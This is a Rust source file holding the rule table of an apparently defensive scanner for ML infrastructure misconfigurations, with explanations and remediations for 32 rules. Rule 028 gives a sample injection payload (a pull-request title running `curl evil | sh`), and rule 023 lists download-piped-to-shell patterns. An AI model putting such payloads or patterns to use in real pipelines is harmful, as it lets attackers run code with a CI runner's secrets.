//! The rule table of the IaC scanner. Each explanation is what
//! `aisec explain AISEC-IAC-NNN` prints.

use aisec_core::{Reference, Severity, atlas, cwe, refs};

/// MITRE ATLAS AML.T0012: Valid Accounts.
pub const ATLAS_VALID_ACCOUNTS: Reference = atlas!("AML.T0012");
/// MITRE ATLAS AML.T0025: Exfiltration via Cyber Means.
pub const ATLAS_EXFILTRATION: Reference = atlas!("AML.T0025");
/// MITRE ATLAS AML.T0035: ML Artifact Collection.
pub const ATLAS_ARTIFACT_COLLECTION: Reference = atlas!("AML.T0035");
/// MITRE ATLAS AML.T0020: Poison Training Data.
pub const ATLAS_POISON: Reference = atlas!("AML.T0020");
/// MITRE ATLAS AML.T0029: Denial of ML Service.
pub const ATLAS_DOS: Reference = atlas!("AML.T0029");
/// MITRE ATLAS AML.T0049: Exploit Public-Facing Application.
pub const ATLAS_PUBLIC_APP: Reference = atlas!("AML.T0049");

/// The explanation of an IaC rule from its three sections, one literal each:
/// every IaC rule has exactly these sections, so this helper writes the
/// headings once. It builds the `explanation` field only; rules are declared
/// with `aisec_core::rules!` like every other family's.
macro_rules! explanation {
    ($what:literal, $why:literal, $fix:literal $(,)?) => {
        concat!(
            "## What it finds\n",
            $what,
            "\n\n## Why it matters\n",
            $why,
            "\n\n## Remediation\n",
            $fix
        )
    };
}

aisec_core::rules! {
/// Every rule of the family, in id order.
pub static RULES;

pub static ML_COMPUTE_PUBLIC = Rule {
    id: "AISEC-IAC-001",
    name: "ml-compute-public-network",
    summary: "ML notebook or compute reachable from the internet (direct internet access or a public IP)",
    default_severity: Severity::High,
    explanation: explanation!(
        "Terraform for ML notebooks and compute that talk to the internet directly: \
`aws_sagemaker_notebook_instance` without `direct_internet_access = \"Disabled\"` \
(the default is `Enabled`), `aws_sagemaker_domain` with `app_network_access_type` \
`PublicInternetOnly` (the default), `google_workbench_instance` without \
`gce_setup { disable_public_ip = true }`, `google_notebooks_instance` without \
`no_public_ip = true`, and Azure ML compute instances or clusters without \
`node_public_ip_enabled = false` (the default is `true`).",
        "Notebooks hold credentials for training data and model registries and run \
arbitrary code by design. A public IP or direct internet path lets data leave \
without passing any egress control, and exposes the instance to scanning.",
        "Place the notebook in a private subnet with a NAT or VPC endpoints: set \
`direct_internet_access = \"Disabled\"` with a `subnet_id`, `app_network_access_type = \"VpcOnly\"`, \
`disable_public_ip = true` / `no_public_ip = true`, `node_public_ip_enabled = false`.",
    ),
    references: &[cwe!(668), ATLAS_EXFILTRATION, refs::OWASP_ML05],
};

pub static ML_NOTEBOOK_ROOT = Rule {
    id: "AISEC-IAC-002",
    name: "ml-notebook-root-access",
    summary: "ML notebook users get root (or SSH) on the instance",
    default_severity: Severity::Medium,
    explanation: explanation!(
        "`aws_sagemaker_notebook_instance` without `root_access = \"Disabled\"` (the default is \
`Enabled`), Vertex AI Workbench / user-managed notebooks whose metadata does not set \
`notebook-disable-root = \"true\"`, and Azure ML compute instances with an `ssh` block.",
        "Root on a notebook lets any notebook user (or any code a notebook runs, such as a \
pickled model) change the instance: install persistence, read other users' files and \
the instance role's credentials, and disable logging.",
        "Set `root_access = \"Disabled\"`, `metadata = { notebook-disable-root = \"true\" }`, and \
drop the `ssh` block of Azure ML compute instances unless it is needed.",
    ),
    references: &[cwe!(250), refs::ATLAS_UNSAFE_ARTIFACT],
};

pub static ML_NO_CMK = Rule {
    id: "AISEC-IAC-003",
    name: "ml-resource-without-cmk",
    summary: "ML resource not encrypted with a customer-managed key",
    default_severity: Severity::Medium,
    explanation: explanation!(
        "SageMaker notebook instances, domains and endpoint configurations without \
`kms_key_id`/`kms_key_arn`; Vertex AI datasets, endpoints, featurestores, metadata \
stores and indexes without `encryption_spec { kms_key_name }`; Azure ML workspaces \
without an `encryption { key_id }` block.",
        "Models and training data are the valuable part of an ML platform. With \
provider-managed keys nobody can revoke access to the data or audit its use \
separately from the rest of the account.",
        "Create a KMS/Cloud KMS/Key Vault key for the ML platform and reference it from each \
resource (`kms_key_arn`, `encryption_spec`, `encryption`).",
    ),
    references: &[cwe!(311), refs::OWASP_ML05],
};

pub static SAGEMAKER_MODEL_NETWORK = Rule {
    id: "AISEC-IAC-004",
    name: "sagemaker-model-no-network-isolation",
    summary: "SageMaker model container can reach the network",
    default_severity: Severity::Medium,
    explanation: explanation!(
        "`aws_sagemaker_model` without `enable_network_isolation = true`. The message says \
whether a `vpc_config` at least confines the traffic.",
        "The inference container runs third-party code (the model's serving stack and \
sometimes the model itself, e.g. a pickle). Without isolation a compromised or \
malicious model can call out, exfiltrate inputs, or download a second stage.",
        "Set `enable_network_isolation = true` (the model artifacts are still fetched by \
SageMaker from S3), and give models that must call out a `vpc_config`.",
    ),
    references: &[cwe!(668), refs::ATLAS_SUPPLY_CHAIN, ATLAS_EXFILTRATION],
};

pub static ML_WORKSPACE_PUBLIC = Rule {
    id: "AISEC-IAC-005",
    name: "ml-workspace-public-network-access",
    summary: "ML workspace accepts connections from public networks",
    default_severity: Severity::High,
    explanation: explanation!(
        "`azurerm_machine_learning_workspace` without `public_network_access_enabled = false` \
(public access is the default) and `google_vertex_ai_endpoint`s without a private \
`network`.",
        "The workspace control plane reaches datastores, registries and compute; exposing it \
publicly leaves only credentials between an attacker and the models.",
        "Disable public network access and reach the workspace through private endpoints \
(Private Link / Private Service Connect).",
    ),
    references: &[cwe!(668), refs::OWASP_ML05],
};

pub static S3_PUBLIC = Rule {
    id: "AISEC-IAC-006",
    name: "s3-bucket-public",
    summary: "S3 bucket (training data, model artifacts) can be made or is public",
    default_severity: Severity::High,
    explanation: explanation!(
        "An `aws_s3_bucket` or `aws_s3_bucket_acl` with a `public-read`, `public-read-write` \
or `authenticated-read` ACL, a bucket policy that allows Principal `*` without a \
condition, or an `aws_s3_bucket_public_access_block` that turns one of its four \
blocks off. Public write is critical.",
        "Public buckets are the most common way training data and model weights leak; a \
publicly writable bucket lets anyone replace a model with a poisoned one.",
        "Remove public ACLs and `*` principals, set all four `block_public_*`/`ignore_public_acls`/\
`restrict_public_buckets` to `true`, and share data through presigned URLs or a CDN.",
    ),
    references: &[cwe!(284), refs::OWASP_ML05, ATLAS_POISON],
};

pub static S3_UNENCRYPTED = Rule {
    id: "AISEC-IAC-007",
    name: "s3-bucket-no-encryption-config",
    summary: "S3 bucket has no server-side encryption configuration in its module",
    default_severity: Severity::Low,
    explanation: explanation!(
        "An `aws_s3_bucket` with neither an inline `server_side_encryption_configuration` \
(AWS provider v3) nor an `aws_s3_bucket_server_side_encryption_configuration` for it \
(v4+) in the same Terraform module (the file and its sibling `.tf` files).",
        "Since 2023 AWS encrypts new objects with SSE-S3 anyway, so this is about control: \
without an explicit SSE-KMS key nobody can restrict who decrypts the training data or \
model artifacts separately from who can read the bucket.",
        "Add an `aws_s3_bucket_server_side_encryption_configuration` with \
`sse_algorithm = \"aws:kms\"` and a customer-managed `kms_master_key_id`.",
    ),
    references: &[cwe!(311)],
};

pub static S3_UNVERSIONED = Rule {
    id: "AISEC-IAC-008",
    name: "s3-bucket-no-versioning",
    summary: "S3 bucket without versioning: overwritten models and data cannot be recovered or audited",
    default_severity: Severity::Medium,
    explanation: explanation!(
        "An `aws_s3_bucket` with neither `versioning { enabled = true }` (v3) nor an \
`aws_s3_bucket_versioning` with `status = \"Enabled\"` for it in the same module.",
        "Model artifacts are overwritten in place (`model.tar.gz`, `latest/`). Without \
versions a poisoned upload leaves no trace and no good copy to roll back to.",
        "Add `aws_s3_bucket_versioning` with `versioning_configuration { status = \"Enabled\" }` \
(and consider Object Lock for released models).",
    ),
    references: &[cwe!(693), ATLAS_POISON, refs::OWASP_ML02],
};

pub static S3_NO_LOGGING = Rule {
    id: "AISEC-IAC-009",
    name: "s3-bucket-no-access-logging",
    summary: "S3 bucket without server access logging",
    default_severity: Severity::Low,
    explanation: explanation!(
        "An `aws_s3_bucket` with neither an inline `logging` block (v3) nor an \
`aws_s3_bucket_logging` for it (v4+) in the same module.",
        "Without access logs nobody can tell who downloaded the training set or replaced a \
model artifact, or when.",
        "Add `aws_s3_bucket_logging` pointing at a separate log bucket (or enable CloudTrail \
data events for the bucket).",
    ),
    references: &[cwe!(778)],
};

pub static IAM_WILDCARD = Rule {
    id: "AISEC-IAC-010",
    name: "iam-wildcard-ml-permissions",
    summary: "IAM policy grants every action (`*`) or every action of an ML/data service",
    default_severity: Severity::High,
    explanation: explanation!(
        "Allow statements in `aws_iam_policy`, `aws_iam_role_policy`, `aws_iam_user_policy`, \
`aws_iam_group_policy` (inline JSON, heredoc or `jsonencode`) and \
`data \"aws_iam_policy_document\"` whose actions include `*`, `sagemaker:*`, `s3:*`, \
`bedrock:*`, `iam:*` or `kms:*`, and attachments of the AWS managed \
`AmazonSageMakerFullAccess`, `AmazonS3FullAccess`, `AmazonBedrockFullAccess` or \
`AdministratorAccess` policies. `*` alone is high, a whole service medium. \
Statements that grant object writes or deletes on S3, or model and endpoint \
creation on SageMaker/Bedrock, with `Resource: \"*\"` are reported at low: every \
bucket or model in the account, not the ones the job uses.",
        "ML roles are handed to notebooks, training jobs and endpoints that run third-party \
code. A wildcard turns one malicious model or dependency into control of every model, \
dataset and key the account holds.",
        "List the actions the job needs (`sagemaker:InvokeEndpoint`, `s3:GetObject` on the \
training prefix) and scope `Resource` to the buckets and models involved.",
    ),
    references: &[cwe!(732), cwe!(269), ATLAS_VALID_ACCOUNTS],
};

pub static BEDROCK_NO_GUARDRAIL = Rule {
    id: "AISEC-IAC-011",
    name: "bedrock-agent-without-guardrail",
    summary: "Bedrock agent without a guardrail",
    default_severity: Severity::Medium,
    explanation: explanation!(
        "`aws_bedrockagent_agent` without a `guardrail_configuration` block.",
        "Agents call tools and read knowledge bases on behalf of whoever writes the prompt. \
A guardrail is the platform's filter for prompt attacks, denied topics and sensitive \
information in answers.",
        "Create an `aws_bedrock_guardrail` (prompt-attack filter, PII filters) and reference it \
with `guardrail_configuration { guardrail_identifier = ..., guardrail_version = ... }`.",
    ),
    references: &[cwe!(693), refs::OWASP_LLM02],
};

pub static BEDROCK_NO_LOGGING = Rule {
    id: "AISEC-IAC-012",
    name: "bedrock-no-invocation-logging",
    summary: "Bedrock used without model invocation logging in the module",
    default_severity: Severity::Low,
    explanation: explanation!(
        "A Terraform module (the file and its sibling `.tf` files) that creates Bedrock \
agents, custom models, provisioned throughput or guardrails but no \
`aws_bedrock_model_invocation_logging_configuration`, or one whose delivery is \
entirely disabled.",
        "Invocation logs are the only record of what prompts went in and what came out: \
needed to investigate prompt injection, data leaks and abuse of the account's quota.",
        "Add `aws_bedrock_model_invocation_logging_configuration` with CloudWatch or S3 \
delivery (it is account-wide; one per region is enough).",
    ),
    references: &[cwe!(778), refs::OWASP_LLM10],
};

pub static K8S_PRIVILEGED = Rule {
    id: "AISEC-IAC-013",
    name: "ml-workload-privileged",
    summary: "ML workload runs privileged or shares the host's namespaces",
    default_severity: Severity::High,
    explanation: explanation!(
        "Containers of model-serving and training workloads (KServe, Seldon, Ray, Kubeflow \
CRDs, and Deployments/Pods/Jobs or compose services running Triton, vLLM, TGI, \
TorchServe, Jupyter... images, requesting GPUs, or handling models: a mount at \
`.../models`, `HF_*`/`TRANSFORMERS_*` environment, a command that runs `huggingface_hub`) with `privileged: true`, \
`allowPrivilegeEscalation: true`, added capabilities `SYS_ADMIN`/`ALL`, or pods with \
`hostNetwork`, `hostPID` or `hostIPC`.",
        "Model servers parse untrusted inputs and load artifacts that may run code. A \
privileged container makes that code root on the GPU node, with every other \
tenant's models and data.",
        "Remove `privileged`, drop all capabilities, set `allowPrivilegeEscalation: false`. \
GPUs need the device plugin (`nvidia.com/gpu` limits), not privileges.",
    ),
    references: &[cwe!(250), refs::ATLAS_UNSAFE_ARTIFACT],
};

pub static HOST_MOUNT = Rule {
    id: "AISEC-IAC-014",
    name: "ml-workload-host-mount",
    summary: "ML workload mounts a path of the host",
    default_severity: Severity::High,
    explanation: explanation!(
        "`hostPath` volumes in ML workloads (any path; `/`, `/etc`, `/root`, \
`/var/run/docker.sock`, `/var/lib/kubelet`, `/proc`, `/sys` are named as sensitive), \
and compose services of ML images that bind-mount such sensitive host paths.",
        "A model cache on the node's disk is shared by every pod that mounts it: one \
workload can replace the weights another loads. Sensitive host paths give the \
container the node.",
        "Use a PVC or an `emptyDir` for model caches, or a read-only volume populated by an \
init container that verifies checksums.",
    ),
    references: &[cwe!(668), ATLAS_POISON],
};

pub static RUNS_AS_ROOT = Rule {
    id: "AISEC-IAC-015",
    name: "ml-workload-runs-as-root",
    summary: "ML workload may run as root (no runAsNonRoot, or runAsUser 0)",
    default_severity: Severity::Medium,
    explanation: explanation!(
        "ML workload containers whose pod and container security contexts neither set \
`runAsNonRoot: true` nor a non-zero `runAsUser`, or that set `runAsUser: 0` (high).",
        "Most serving images run as root by default. A deserialization bug or malicious \
model then runs as root in the container, one step from the node.",
        "Set `securityContext: { runAsNonRoot: true, runAsUser: 1000 }` on the pod or \
each container.",
    ),
    references: &[cwe!(250)],
};

pub static NO_LIMITS = Rule {
    id: "AISEC-IAC-016",
    name: "ml-workload-no-resource-limits",
    summary: "ML workload container without CPU/memory limits",
    default_severity: Severity::Medium,
    explanation: explanation!(
        "Containers of ML workloads without `resources.limits` for memory or CPU (KServe \
model specs included).",
        "An inference server fed large or adversarial inputs grows until the node evicts \
its neighbours; GPU nodes are few and expensive, so one unbounded pod denies \
service to every model on the node.",
        "Set `resources.limits` (memory and CPU, plus `nvidia.com/gpu`) sized from load \
tests, and requests equal to limits for serving pods.",
    ),
    references: &[cwe!(770), ATLAS_DOS, refs::OWASP_LLM10],
};

pub static MUTABLE_IMAGE = Rule {
    id: "AISEC-IAC-017",
    name: "image-not-pinned",
    summary: "Container image referenced by a mutable tag (`latest` or none)",
    default_severity: Severity::Medium,
    explanation: explanation!(
        "Dockerfile `FROM` lines (ARG defaults resolved, stage names and `scratch` excepted), \
Kubernetes ML workload containers, compose ML services and GitLab CI job images whose \
image has no tag or the `latest` tag and no digest.",
        "ML base images (CUDA, PyTorch, serving runtimes) are large, change often and come \
from many registries. A moving tag means every build or restart may run a different, \
unreviewed image: the ML supply chain attack surface.",
        "Pin a version tag and, better, a digest: `image: vllm/vllm-openai:v0.6.3@sha256:...`.",
    ),
    references: &[cwe!(494), refs::ATLAS_SUPPLY_CHAIN, refs::OWASP_ML06],
};

pub static MODEL_HTTP = Rule {
    id: "AISEC-IAC-018",
    name: "model-fetched-over-http",
    summary: "Model or data fetched over plain http",
    default_severity: Severity::High,
    explanation: explanation!(
        "KServe/Seldon `storageUri`/`modelUri` values with `http://`, and Dockerfile `ADD` or \
`RUN curl/wget` of `http://` URLs.",
        "Anyone on the path can swap the model. Model files are code for many loaders \
(pickle, TorchScript, Keras lambdas), so a swapped model is code execution in the \
serving or build environment.",
        "Use `https://`, `s3://`, `gs://` or an OCI registry, and verify a checksum or \
signature (`aisec verify`) before serving.",
    ),
    references: &[cwe!(319), cwe!(494), refs::ATLAS_SUPPLY_CHAIN],
};

pub static MODEL_NO_CHECKSUM = Rule {
    id: "AISEC-IAC-019",
    name: "model-download-without-checksum",
    summary: "Model file downloaded during the build without a checksum check",
    default_severity: Severity::Medium,
    explanation: explanation!(
        "Dockerfile `RUN curl/wget` of a model file (`.safetensors`, `.bin`, `.pt`, `.pth`, \
`.ckpt`, `.onnx`, `.gguf`, `.pkl`, `.h5`, `.keras`...) with no `sha256sum -c`/\
`shasum -c` in the same `RUN`, and `ADD` of such a URL without `--checksum=`.",
        "Without a checksum the image bakes in whatever the server returned that day: a \
replaced file on a compromised mirror ends up in production unnoticed.",
        "Verify the download (`echo \"<sha256>  model.safetensors\" | sha256sum -c -`, or \
`ADD --checksum=sha256:...`), or sign models and run `aisec verify`.",
    ),
    references: &[cwe!(494), refs::ATLAS_SUPPLY_CHAIN, refs::OWASP_ML06],
};

pub static SERVER_EXPOSED = Rule {
    id: "AISEC-IAC-020",
    name: "model-server-exposed",
    summary: "Model server, Ray or Jupyter exposed through a public LoadBalancer/NodePort or all interfaces",
    default_severity: Severity::High,
    explanation: explanation!(
        "Kubernetes Services of type `LoadBalancer` or `NodePort` (not annotated internal, no \
`loadBalancerSourceRanges`) that select an ML workload of the same file or expose a \
well-known ML port (Ray dashboard 8265, Ray client 10001, Jupyter 8888, MLflow 5000, \
Triton 8000-8002), RayCluster head `serviceType: LoadBalancer`, and compose ML \
services publishing ports on all interfaces. Ray and Jupyter are critical.",
        "Model servers usually have no authentication of their own: anyone who can reach \
them can query (and extract) the model. Ray's dashboard and job API and Jupyter run \
arbitrary code (ShadowRay, CVE-2023-48022).",
        "Keep model servers on ClusterIP behind an authenticating gateway or ingress, restrict \
`loadBalancerSourceRanges`, use internal load balancers, and publish compose ports on \
`127.0.0.1` only.",
    ),
    references: &[cwe!(306), ATLAS_PUBLIC_APP, refs::OWASP_ML05],
};

pub static SECRET_IN_ENV = Rule {
    id: "AISEC-IAC-021",
    name: "secret-literal-in-environment",
    summary: "Secret written literally into a container or CI environment variable",
    default_severity: Severity::High,
    explanation: explanation!(
        "Environment variables with secret-like names (`*_TOKEN`, `*_KEY`, `*_SECRET`, \
`*PASSWORD`, `HF_TOKEN`, `OPENAI_API_KEY`, `WANDB_API_KEY`...) given a literal value in \
Kubernetes `env` (not `valueFrom`), compose `environment`, Dockerfile `ENV`/`ARG` \
defaults, workflow `env` and GitLab CI `variables`. Placeholders and references (`${VAR}`, `${{ secrets.X }}`) \
are ignored; the evidence names the variable and never shows the value.",
        "Manifests and Dockerfiles are committed, rendered into logs and baked into image \
layers (`docker history` shows `ENV` and `ARG`). A Hugging Face or OpenAI token there \
is readable by everyone who can pull the image or read the repository.",
        "Rotate the credential. Use Kubernetes Secrets with `valueFrom.secretKeyRef`, compose \
`secrets:`, BuildKit `RUN --mount=type=secret`, and `${{ secrets.X }}` in workflows.",
    ),
    references: &[cwe!(798), cwe!(312), refs::OWASP_LLM02],
};

pub static SERVER_NO_AUTH = Rule {
    id: "AISEC-IAC-022",
    name: "ml-server-started-without-auth",
    summary: "Jupyter or Ray started listening on all interfaces without authentication",
    default_severity: Severity::High,
    explanation: explanation!(
        "Commands (Dockerfile `CMD`/`ENTRYPOINT`/`RUN`, Kubernetes `command`/`args`, compose \
`command`) that start Jupyter with an empty token or password \
(`--NotebookApp.token=''`, `--ServerApp.token=`, `--IdentityProvider.token=`) or Ray \
with `--dashboard-host=0.0.0.0`.",
        "Both are remote code execution services: a Jupyter kernel or a Ray job submission \
runs whatever it is given. Without a token, reaching the port is enough.",
        "Keep Jupyter's token (or put it behind JupyterHub/an authenticating proxy); bind the \
Ray dashboard to `127.0.0.1` and reach it by port-forward.",
    ),
    references: &[cwe!(306), ATLAS_PUBLIC_APP],
};

pub static CURL_PIPE_SHELL = Rule {
    id: "AISEC-IAC-023",
    name: "download-piped-to-shell",
    summary: "Script downloaded and piped straight into a shell or interpreter",
    default_severity: Severity::High,
    explanation: explanation!(
        "`curl ... | sh`, `wget -O- ... | bash`, `| python` and similar in Dockerfile `RUN` \
instructions.",
        "The build runs whatever the server sends at that moment, unreviewed and unpinned: \
installers of CUDA tools, conda and model CLIs are frequent targets.",
        "Download to a file, verify its checksum or signature, then run it; or install from \
a package manager with pinned versions.",
    ),
    references: &[cwe!(494), refs::ATLAS_SUPPLY_CHAIN],
};

pub static DOCKER_ROOT = Rule {
    id: "AISEC-IAC-024",
    name: "dockerfile-runs-as-root",
    summary: "Image runs as root: no USER in the final stage, or USER root",
    default_severity: Severity::Medium,
    explanation: explanation!(
        "Dockerfiles whose final stage never sets `USER` (and does not inherit one from an \
earlier stage or a base known to run unprivileged, such as the Jupyter docker-stacks \
or `rayproject/ray`), or whose last `USER` is `root`/`0`.",
        "Model servers and notebooks execute model code; as root, a malicious model can \
modify the image's libraries for every later request and escape more easily.",
        "Create a user (`RUN useradd -m -u 1000 app`) and end the final stage with `USER 1000`.",
    ),
    references: &[cwe!(250)],
};

pub static PIP_UNTRUSTED_INDEX = Rule {
    id: "AISEC-IAC-025",
    name: "pip-untrusted-index",
    summary: "pip installs from an extra, plain-http or untrusted package index",
    default_severity: Severity::High,
    explanation: explanation!(
        "`pip install` (and `uv pip`) with `--extra-index-url` (dependency confusion), an \
`--index-url`/`-i` over `http://`, or `--trusted-host`, in Dockerfile `RUN` and workflow \
`run` steps.",
        "With `--extra-index-url`, pip picks the highest version from either index, so a \
public package with an internal name wins: the December 2022 `torchtriton` attack on \
PyTorch nightly users worked exactly this way. http and `--trusted-host` let the \
network swap packages.",
        "Use one `--index-url` (https) that proxies public packages, or pin every package with \
`--require-hashes`; never `--trusted-host`.",
    ),
    references: &[
        cwe!(427),
        cwe!(494),
        refs::ATLAS_SUPPLY_CHAIN,
        refs::OWASP_ML06
    ],
};

pub static GHA_UNPINNED = Rule {
    id: "AISEC-IAC-026",
    name: "gha-action-not-pinned",
    summary: "GitHub Action or reusable workflow not pinned to a full commit SHA",
    default_severity: Severity::Medium,
    explanation: explanation!(
        "`uses:` references whose ref is not a 40-hex commit SHA (tags and branches move), \
and `docker://` images without a digest. Local `./` actions are exempt; actions owned \
by GitHub (`actions/`, `github/`) are reported at low severity. In GitLab CI: \
`include:` of a remote URL, and `include: project:` at a branch, a tag or no `ref` \
(low).",
        "Tags of third-party actions can be moved to malicious commits (tj-actions/changed-files, \
March 2025). A workflow that trains or publishes models hands the action its tokens.",
        "Pin `uses: owner/action@<40-hex sha> # v1.2.3` and let Dependabot or Renovate update the \
pins.",
    ),
    references: &[cwe!(829), refs::ATLAS_SUPPLY_CHAIN],
};

pub static GHA_UNTRUSTED_CHECKOUT = Rule {
    id: "AISEC-IAC-027",
    name: "gha-privileged-trigger-checks-out-pr",
    summary: "pull_request_target/workflow_run workflow checks out the pull request's code",
    default_severity: Severity::Critical,
    explanation: explanation!(
        "Workflows triggered by `pull_request_target` or `workflow_run` that check out the \
PR head (`actions/checkout` with `ref:` from `github.event.pull_request.head`, \
`github.head_ref`, `github.event.workflow_run.head_*`, `refs/pull/`), or run \
`gh pr checkout`/`git fetch ... pull/`.",
        "These triggers run with the base repository's secrets and a write token. Checking \
out and building the fork's code (`pip install .`, tests, training scripts) runs the \
attacker's code with them: a \"pwn request\".",
        "Use `pull_request` for untrusted code; if a privileged step is needed, split it into a \
`workflow_run` job that only consumes artifacts and never executes PR content.",
    ),
    references: &[cwe!(829), cwe!(94), refs::ATLAS_SUPPLY_CHAIN],
};

pub static GHA_INJECTION = Rule {
    id: "AISEC-IAC-028",
    name: "gha-script-injection",
    summary: "Untrusted event data interpolated into a run script",
    default_severity: Severity::High,
    explanation: explanation!(
        "`${{ ... }}` expressions in `run:` scripts (and `actions/github-script` `script:`) that \
read attacker-controlled context: issue/PR/comment titles and bodies, \
`github.head_ref`, PR head refs and labels, commit messages and author names.",
        "The expression is pasted into the script before the shell runs it: a PR titled \
`\"; curl evil | sh; #` executes in the runner, with its secrets.",
        "Pass the value through an environment variable (`env: TITLE: ${{ github.event.issue.title }}`) \
and use `\"$TITLE\"` in the script.",
    ),
    references: &[cwe!(78), cwe!(94)],
};

pub static GHA_SECRET_ECHO = Rule {
    id: "AISEC-IAC-029",
    name: "gha-secret-echoed",
    summary: "Secret printed to the workflow log",
    default_severity: Severity::High,
    explanation: explanation!(
        "`run:` lines that `echo`/`printf` a `${{ secrets.* }}` expression to standard output \
(not into a pipe, a file or `::add-mask::`), and GitLab CI script lines that echo \
`$CI_JOB_TOKEN` or a variable with a secret-like name.",
        "Log masking only hides the exact string: a secret printed encoded, split or \
transformed is readable by everyone who can see the logs, forks' PR authors included.",
        "Do not print secrets; pass them through `env:` to the tool that needs them, or pipe \
them (`--password-stdin`).",
    ),
    references: &[cwe!(532), refs::OWASP_LLM02],
};

pub static GHA_PERMISSIONS = Rule {
    id: "AISEC-IAC-030",
    name: "gha-excessive-permissions",
    summary: "Workflow token has write-all permissions, or no permissions block",
    default_severity: Severity::High,
    explanation: explanation!(
        "`permissions: write-all` at workflow or job level (high), and workflows with no \
top-level `permissions` where some job has none either (low: the token then gets the \
repository's default, which is write for repositories created before February 2023).",
        "The `GITHUB_TOKEN` of a workflow that handles models can push commits, releases and \
packages. Any compromised step (an unpinned action, an injected script) inherits that.",
        "Declare `permissions: { contents: read }` at the top and grant writes per job.",
    ),
    references: &[cwe!(250), cwe!(732)],
};

pub static PUBLISH_WITHOUT_GATE = Rule {
    id: "AISEC-IAC-031",
    name: "ml-publish-without-scan-or-signature",
    summary: "Workflow publishes a model or dataset without scanning or signing it",
    default_severity: Severity::Medium,
    explanation: explanation!(
        "Workflows and GitLab CI pipelines that upload models or data (`huggingface-cli upload`, `hf upload`, \
`push_to_hub`, `upload_folder`, `aws s3 cp/sync` or `gsutil cp` of model/data paths, \
`mlflow ... log_model`, `dvc push`, `wandb artifact put`) while no step of the workflow \
scans (`aisec scan`, `modelscan`, `picklescan`) or signs (`aisec sign`, `model_signing`, \
`cosign sign-blob`) the artifacts.",
        "Whatever the pipeline produced, a pickle payload from a poisoned dependency included, \
goes straight to users. A scan gate and a signature let consumers verify what they load.",
        "Add `aisec scan --fail-on high <dir>` before the upload and `aisec sign <dir>` after \
it, and have consumers run `aisec verify`.",
    ),
    references: &[
        cwe!(345),
        refs::ATLAS_SUPPLY_CHAIN,
        refs::OWASP_ML06,
        refs::OWASP_LLM03
    ],
};

pub static NOTEBOOK_IMDS_V1 = Rule {
    id: "AISEC-IAC-032",
    name: "ml-notebook-imdsv1",
    summary: "SageMaker notebook instance still answers IMDSv1 (credentials one SSRF away)",
    default_severity: Severity::Medium,
    explanation: explanation!(
        "`aws_sagemaker_notebook_instance` without \
`instance_metadata_service_configuration { minimum_instance_metadata_service_version = \"2\" }`: \
the default (`1`) keeps the unauthenticated v1 metadata endpoint open.",
        "The notebook's execution role usually reads training data and model registries. \
IMDSv1 hands that role's credentials to any request the instance can be tricked into \
making (a server-side request forgery in a notebook extension, a URL fetched by a \
loaded model or dataset script); IMDSv2 requires a PUT with a session token first.",
        "Add `instance_metadata_service_configuration { minimum_instance_metadata_service_version = \"2\" }` \
to the notebook instance.",
    ),
    references: &[cwe!(918), cwe!(522), ATLAS_VALID_ACCOUNTS],
};

}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ids_are_sequential_and_explained() {
        for (i, r) in RULES.iter().enumerate() {
            assert_eq!(r.id, format!("AISEC-IAC-{:03}", i + 1));
            for h in ["## What it finds", "## Why it matters", "## Remediation"] {
                assert!(r.explanation.contains(h), "{} lacks {h}", r.id);
            }
            assert!(!r.references.is_empty());
        }
    }
}
